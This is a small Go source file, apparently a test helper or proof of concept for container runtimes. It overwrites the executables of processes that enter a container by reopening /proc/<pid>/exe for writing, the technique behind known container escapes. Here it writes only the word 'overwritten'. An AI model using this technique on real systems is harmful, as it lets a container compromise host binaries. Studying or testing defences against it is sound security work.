package main

import (
	"fmt"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// overwrite is a container that tries to replace the program of processes that enter it:
// it opens the executable of every process that is not its own, and writes to it as soon
// as it is not executed any more. It never ends.
func overwrite() error {
	own, err := os.Readlink("/proc/self/exe")
	if err != nil {
		return err
	}
	kept := map[string]int{} // by pid
	for {
		entries, err := os.ReadDir("/proc")
		if err != nil {
			return err
		}
		for _, e := range entries {
			pid := e.Name()
			exe, _ := os.Readlink("/proc/" + pid + "/exe")
			if exe == "" || exe == own || strings.HasPrefix(exe, "/bin/") || kept[pid] != 0 {
				continue
			}
			if fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
				kept[pid] = fd
			}
		}
		for pid, fd := range kept {
			w, err := unix.Open(fmt.Sprint("/proc/self/fd/", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err == unix.ETXTBSY {
				continue
			}
			if err == nil {
				_, _ = unix.Write(w, []byte("overwritten"))
				unix.Close(w)
			}
			unix.Close(fd)
			delete(kept, pid)
		}
	}
}
